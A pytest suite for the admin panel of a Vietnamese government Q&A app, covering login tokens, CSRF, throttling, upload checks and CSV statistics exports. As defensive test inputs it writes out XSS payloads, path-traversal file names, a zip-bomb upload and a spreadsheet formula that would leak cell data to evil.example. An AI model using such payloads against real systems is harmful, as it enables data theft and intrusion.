"""Staff admin: never open by default, token login, uploads (good, bad, hostile), removal, statistics."""
import csv
import hashlib
import io
import os
import re
import sqlite3
import subprocess
import sys
import time

import pytest
from fastapi.testclient import TestClient
from pydantic import ValidationError

from channels.web.admin_documents import ORPHAN_GRACE_S
from channels.web.app import create_app
from hoidap.config import Settings
from hoidap.wiring import open_hoidap
from test_loaders import docx_bomb

TOKEN = "bi-mat-cua-so-tu-phap"
DOC = """KẾ HOẠCH
Triển khai thử nghiệm trợ lý số cho xã Bình Minh

I. MỤC ĐÍCH
Đưa trợ lý số tra cứu thủ tục hành chính về tận thôn ấp Bình Minh trong năm 2026.
"""


def make_client(tmp_path, token=TOKEN, **overrides) -> TestClient:
    settings = Settings(data_dir=tmp_path / "data", embedder="none", admin_token=token, rate_limit_per_minute=1000,
                        **overrides)
    return TestClient(create_app(open_hoidap(settings)))


@pytest.fixture
def client(tmp_path):
    c = make_client(tmp_path)
    c.headers["Authorization"] = f"Bearer {TOKEN}"
    return c


def upload(client, name, data, **fields):
    return client.post("/admin/documents", files={"file": (name, data)}, data=fields)


def test_admin_is_disabled_without_token(tmp_path):
    client = make_client(tmp_path, token="")
    for path in ["/admin", "/admin/login", "/admin/stats", "/admin/stats.csv"]:
        assert client.get(path).status_code == 404
    assert client.post("/admin/login", data={"token": ""}).status_code == 404
    assert upload(client, "a.txt", DOC.encode()).status_code == 404


def csrf_of(page: str) -> str:
    return re.search(r'name="csrf" value="([^"]+)"', page).group(1)


def log_in(client) -> str:
    """Log in through the form; returns the CSRF token the admin pages carry."""
    r = client.post("/admin/login", data={"token": TOKEN}, follow_redirects=False)
    assert r.status_code == 303
    return csrf_of(client.get("/admin").text)


def test_login_sets_a_random_httponly_session_cookie(tmp_path):
    client = make_client(tmp_path)
    assert client.get("/admin", headers={"accept": "text/html"}, follow_redirects=False).headers["location"] == "/admin/login"
    assert client.post("/admin/documents", files={"file": ("a.txt", b"x")}).status_code == 401
    assert client.post("/admin/login", data={"token": "sai"}).status_code == 401
    assert client.post("/admin/login", data={"token": "mã sai"}).status_code == 401  # not a 500
    assert client.get("/admin", headers={"authorization": "Bearer mã".encode()}).status_code == 401
    r = client.post("/admin/login", data={"token": TOKEN}, follow_redirects=False)
    assert r.status_code == 303
    cookie = r.headers["set-cookie"]
    assert "HttpOnly" in cookie and "SameSite=strict" in cookie and TOKEN not in cookie and "Secure" not in cookie
    assert hashlib.sha256(f"hoidap-admin:{TOKEN}".encode()).hexdigest() not in cookie
    assert client.get("/admin").status_code == 200
    first = client.cookies["hoidap_admin"]
    client.cookies.clear()
    client.post("/admin/login", data={"token": TOKEN})
    assert client.cookies["hoidap_admin"] != first  # a new random id for every login


def test_old_cookie_is_refused_after_logout(tmp_path):
    client = make_client(tmp_path)
    csrf = log_in(client)
    cookie = client.cookies["hoidap_admin"]
    assert client.post("/admin/logout", data={"csrf": csrf}, follow_redirects=False).status_code == 303
    client.cookies.set("hoidap_admin", cookie, path="/admin")  # as if someone kept a copy
    assert client.get("/admin").status_code == 401
    assert client.post("/admin/curated", data={"csrf": csrf, "question": "Hỏi?", "answer": "Đáp."}).status_code == 401


def test_sessions_expire_and_survive_restart(tmp_path):
    client = make_client(tmp_path)
    log_in(client)
    restarted = make_client(tmp_path)
    restarted.cookies = client.cookies
    assert restarted.get("/admin").status_code == 200  # stored server-side, not in process memory
    with sqlite3.connect(tmp_path / "data" / "hoidap.sqlite") as db:
        db.execute("UPDATE admin_sessions SET expires_at = 0")
    assert restarted.get("/admin").status_code == 401


def test_secure_cookie_when_the_public_url_is_https(tmp_path):
    client = make_client(tmp_path, public_url="https://hoidap.stp.example.gov.vn")
    r = client.post("/admin/login", data={"token": TOKEN}, follow_redirects=False)
    assert "Secure" in r.headers["set-cookie"]


def test_forms_need_the_csrf_token_and_the_same_origin(tmp_path):
    client = make_client(tmp_path)
    csrf = log_in(client)
    item = {"question": "Giờ tiếp dân của Sở?", "answer": "Sáng thứ Hai.", "source": "Văn phòng Sở"}
    r = client.post("/admin/curated", data=item, headers={"Origin": "https://evil.example"})
    assert r.status_code == 403 and "trang web khác" in r.text
    r = client.post("/admin/curated", data={**item, "csrf": csrf}, headers={"Origin": "https://evil.example"})
    assert r.status_code == 403  # even with the token
    r = client.post("/admin/curated", data={**item, "csrf": csrf}, headers={"Sec-Fetch-Site": "cross-site"})
    assert r.status_code == 403
    assert client.post("/admin/curated", data=item).status_code == 403  # no token
    assert client.post("/admin/curated", data={**item, "csrf": "doan-bua"}).status_code == 403
    assert client.post("/admin/login", data={"token": TOKEN}, headers={"Origin": "https://evil.example"}).status_code == 403
    assert client.app.state.hoidap.answerer.curated.list() == []
    r = client.post("/admin/curated", data={**item, "csrf": csrf}, headers={"Origin": "http://testserver"})
    assert r.status_code == 200 and "Đã thêm" in r.text
    for page in ["/admin", "/admin/curated", f"/admin/documents/{client.get('/api/documents').json()[0]['id']}/delete"]:
        forms = re.findall(r"<form method=\"post\".*?</form>", client.get(page).text, re.S)
        assert forms and all(f'name="csrf" value="{csrf}"' in form for form in forms), page


def test_wrong_tokens_are_throttled_on_every_path(tmp_path):
    client = make_client(tmp_path)
    codes = [client.get("/admin", headers={"Authorization": f"Bearer sai-{i}"}).status_code for i in range(8)]
    assert codes == [401] * 5 + [429] * 3
    r = client.get("/admin", headers={"Authorization": f"Bearer {TOKEN}"})  # even the right one, for a minute
    assert r.status_code == 429 and "chờ một phút" in r.json()["detail"] and r.headers["retry-after"] == "60"
    assert client.post("/admin/login", data={"token": TOKEN}).status_code == 429
    form_client = make_client(tmp_path / "form")
    codes = [form_client.post("/admin/login", data={"token": f"sai-{i}"}).status_code for i in range(6)]
    assert codes == [401] * 5 + [429]
    assert form_client.get("/admin", headers={"Authorization": "Bearer x"}).status_code == 429


def test_short_admin_tokens_are_refused_at_start_up(tmp_path):
    with pytest.raises(ValidationError, match="ít nhất 16 ký tự"):
        Settings(admin_token="ngan-qua")
    env = {**os.environ, "HOIDAP_ADMIN_TOKEN": "ngan-qua", "HOIDAP_DATA_DIR": str(tmp_path),
           "PYTHONPATH": os.pathsep.join(sys.path)}
    done = subprocess.run([sys.executable, "-m", "hoidap.cli", "serve", "--port", "1"], cwd=tmp_path, env=env,
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 2 and "Lỗi cấu hình: HOIDAP_ADMIN_TOKEN quá ngắn (8 ký tự)" in done.stderr
    assert "Traceback" not in done.stderr


def test_upload_with_metadata_then_answer_then_remove(client):
    r = upload(client, "Kế hoạch Bình Minh.txt", DOC.encode(), title="Trợ lý số Bình Minh", number="12/KH-UBND",
               date_iso="2026-01-15", issuer="UBND xã Bình Minh", locality="Bình Minh",
               source_url="https://binhminh.example.gov.vn/kh12")
    assert r.status_code == 200 and "Đã thêm văn bản ke-hoach-binh-minh" in r.text
    doc = next(d for d in client.get("/api/documents").json() if d["id"] == "ke-hoach-binh-minh")
    assert doc["number"] == "12/KH-UBND" and doc["date"] == "ngày 15 tháng 1 năm 2026" and doc["issuer"] == "UBND xã Bình Minh"
    answer = client.post("/api/ask", json={"question": "trợ lý số thôn ấp Bình Minh"}).json()
    assert answer["citations"][0]["doc_id"] == "ke-hoach-binh-minh"
    assert client.get("/documents/ke-hoach-binh-minh/file").content == DOC.encode()

    assert "Xóa văn bản" in client.get("/admin/documents/ke-hoach-binh-minh/delete").text
    r = client.post("/admin/documents/ke-hoach-binh-minh/delete")
    assert "Đã xóa" in r.text
    assert client.get("/documents/ke-hoach-binh-minh").status_code == 404
    settings = client.app.state.hoidap.settings
    assert not list(settings.upload_dirs[0].iterdir()) and not (settings.files_dir / "ke-hoach-binh-minh.txt").exists()


def test_originals_are_kept_and_served_from_the_files_folder_it_is_told(tmp_path):
    shared = tmp_path / "shared"  # HOIDAP_FILES_DIR: one folder (NFS) for every replica
    client = make_client(tmp_path, files_dir=shared)
    client.headers["Authorization"] = f"Bearer {TOKEN}"
    ids = {d["id"] for d in client.get("/api/documents").json()}  # the bundled corpus, ingested at the first start
    assert {p.stem for p in shared.glob("*.txt")} == ids
    assert upload(client, "binh-minh.txt", DOC.encode()).status_code == 200
    assert (shared / "binh-minh.txt").read_bytes() == (shared / "uploads" / "binh-minh.txt").read_bytes() == DOC.encode()
    assert client.get("/documents/binh-minh/file").content == DOC.encode()
    assert not (tmp_path / "data" / "files").exists() and not (tmp_path / "data" / "uploads").exists()
    assert not list(shared.rglob(".*.tmp"))  # written under a temporary name, then renamed into place


def test_upload_rejects_bad_files_clearly(client):
    r = upload(client, "virus.exe", b"MZ\x90\x00")
    assert r.status_code == 415 and "Định dạng không hỗ trợ" in r.text
    r = upload(client, "hong.pdf", b"%PDF-1.4 not really a pdf")
    assert r.status_code == 400 and "Không nạp được" in r.text
    r = upload(client, "rong.txt", b"")
    assert r.status_code == 400
    r = upload(client, "a.txt", DOC.encode(), source_url="javascript:alert(1)")
    assert r.status_code == 400 and "http" in r.text
    r = upload(client, "a.txt", DOC.encode(), date_iso="2026-13-01")
    assert r.status_code == 400 and "Ngày ban hành không hợp lệ" in r.text and "month" not in r.text


def test_upload_size_is_capped(tmp_path):
    client = make_client(tmp_path, max_upload_bytes=1000)
    client.headers["Authorization"] = f"Bearer {TOKEN}"
    r = upload(client, "to.txt", b"a" * 2000)
    assert r.status_code == 413 and "Tệp quá lớn (tối đa" in r.text
    r = upload(client, "rat-to.txt", b"a" * 200_000)  # refused by the body cap, before parsing
    assert r.status_code == 413 and r.json() == {"detail": "Nội dung gửi lên quá lớn."}


def test_docx_bomb_upload_is_refused_quickly(client, tmp_path):
    bomb = docx_bomb(tmp_path / "bom.docx").read_bytes()
    started = time.monotonic()
    r = upload(client, "bom.docx", bomb)
    assert r.status_code == 400 and "giải nén ra 200 MB, vượt giới hạn 60 MB" in r.text
    assert time.monotonic() - started < 5
    assert not list(client.app.state.hoidap.settings.upload_dirs[0].glob("bom*"))


def test_a_crash_mid_upload_leaves_no_orphan_file(tmp_path):
    client = make_client(tmp_path)
    client.headers["Authorization"] = f"Bearer {TOKEN}"
    assert upload(client, "giu-lai.txt", DOC.encode()).status_code == 200
    uploads = tmp_path / "data" / "files" / "uploads"
    assert [p.name for p in uploads.iterdir()] == ["giu-lai.txt"]
    legacy = tmp_path / "data" / "uploads"  # where staff uploads were kept before HOIDAP_FILES_DIR
    legacy.mkdir()
    hour_ago = time.time() - ORPHAN_GRACE_S - 1
    half = tmp_path / "data" / "files" / ".giu-lai.txt.0a1b2c3d.tmp"  # an original the process was writing
    for orphan in (uploads / "do-dang.txt", legacy / "cu.txt", half):  # written, then the process was killed
        orphan.write_bytes(DOC.encode())
        os.utime(orphan, (hour_ago, hour_ago))
    (uploads / "dang-nap.txt").write_bytes(DOC.encode())  # another replica is ingesting it right now
    make_client(tmp_path)  # the next start
    assert sorted(p.name for p in uploads.iterdir()) == ["dang-nap.txt", "giu-lai.txt"] and not list(legacy.iterdir())
    assert not half.exists() and (tmp_path / "data" / "files" / "giu-lai.txt").exists()


def test_upload_path_tricks_stay_inside_uploads(client):
    data_dir = client.app.state.hoidap.settings.data_dir
    for name in ["../../etc/passwd", "..\\..\\windows\\win.ini"]:
        assert upload(client, name, DOC.encode()).status_code == 415
    r = upload(client, "../../../tmp/evil.txt", DOC.encode())
    assert r.status_code == 200
    assert (data_dir / "files" / "uploads" / "evil.txt").exists() and not (data_dir.parent / "tmp").exists()


def test_uploaded_html_is_escaped_on_every_page(client):
    hostile = "<h1>KẾ HOẠCH</h1><p>Chuyển đổi số xssprobe &lt;script&gt;alert(1)&lt;/script&gt; <b>đậm</b></p>"
    assert upload(client, "hostile.html", hostile.encode(), title="<img src=x onerror=alert(1)>").status_code == 200
    for path in ["/admin", "/documents/hostile"]:
        page = client.get(path).text
        assert "<img src=x" not in page and "<script>alert" not in page


def test_statistics_page_and_csv_exports(client):
    for q in ["Đồng Nai đặt mục tiêu bao nhiêu phần trăm người dân tiếp cận thông tin đến năm 2030?", "Kế hoạch truyền thông năm 2025?",
              "zzqx wwvv kkpp"]:
        answer = client.post("/api/ask", json={"question": q}).json()
    client.post("/api/feedback", json={"answer_id": answer["answer_id"], "rating": -1, "comment": "gọi 0912345678"})
    page = client.get("/admin/stats")
    assert page.status_code == 200 and "<svg" in page.text and "truyền thông" in page.text
    assert re.search(r"Tổng số câu hỏi</th><td class=\"num\">3<", page.text)

    def rows(kind):
        r = client.get(f"/admin/stats.csv?kind={kind}")
        assert r.headers["content-type"].startswith("text/csv")
        return list(csv.reader(io.StringIO(r.text.lstrip("\ufeff"))))

    daily = rows("daily")
    assert daily[0][0] == "Ngày (YYYY-MM-DD)" and int(daily[1][1]) == 3 and sum(map(int, daily[1][2:])) == 3  # rows add up
    assert any(r[:2] == ["zzqx wwvv kkpp", "1"] for r in rows("unanswered"))
    assert any("truyền thông" in r[1] and r[2] == "2" for r in rows("topics"))
    feedback = rows("feedback")
    assert feedback[1][1] == "👎" and "0912345678" not in feedback[1][2] and feedback[1][5]  # what the bot answered
    assert client.get("/admin/stats.csv?kind=khac").status_code == 400
    assert client.get("/admin/stats?start=2026-13-01").status_code == 400


def test_csv_cells_cannot_become_formulas(client):
    attack = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
    for comment in ["+1 ý kiến", "-2+3", "@SUM(1+1)", "bình thường"]:
        answer = client.post("/api/ask", json={"question": attack}).json()
        r = client.post("/api/feedback", json={"answer_id": answer["answer_id"], "rating": 1, "comment": comment})
        assert r.status_code == 200

    def cells(kind):
        text = client.get(f"/admin/stats.csv?kind={kind}").text.lstrip("\ufeff")
        return [cell for row in csv.reader(io.StringIO(text)) for cell in row]

    assert "'" + attack in cells("unanswered") and attack not in cells("unanswered")
    comments = cells("feedback")
    assert {"'+1 ý kiến", "'-2+3", "'@SUM(1+1)", "bình thường"} <= set(comments)
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in comments + cells("unanswered"))


def test_curated_answers_are_managed_and_answer_citizens(client):
    assert client.post("/admin/curated", data={"question": "Ai trực đường dây nóng?", "answer": "Văn phòng Sở."}).status_code == 400
    r = client.post("/admin/curated", data={"question": "Giờ tiếp dân của Sở là khi nào?",
                                            "answer": "Sáng thứ Hai đến thứ Sáu, 7 giờ 30 đến 11 giờ.",
                                            "source": "Văn phòng Sở, thông báo 5/TB-STP"})
    assert r.status_code == 200 and "Đã thêm" in r.text
    answer = client.post("/api/ask", json={"question": "Giờ tiếp dân của Sở là khi nào?"}).json()
    assert "7 giờ 30" in answer["text"]
    item_id = client.app.state.hoidap.answerer.curated.list()[0].id
    assert "Đã xóa" in client.post(f"/admin/curated/{item_id}/delete").text
    assert client.get("/admin/curated?question=c%C3%A2u%20h%E1%BB%8Fi").status_code == 200


def test_a_job_reports_passages_embedded_and_the_time_left():
    from channels.web.jobs import _Embedding, duration

    steps: list[str] = []
    bar = _Embedding(steps.append, 400)
    bar.update(100)
    assert steps[-1].startswith("Đang nhúng vector 100/400 đoạn, còn khoảng ")
    assert (duration(40), duration(180)) == ("40 giây", "3 phút")
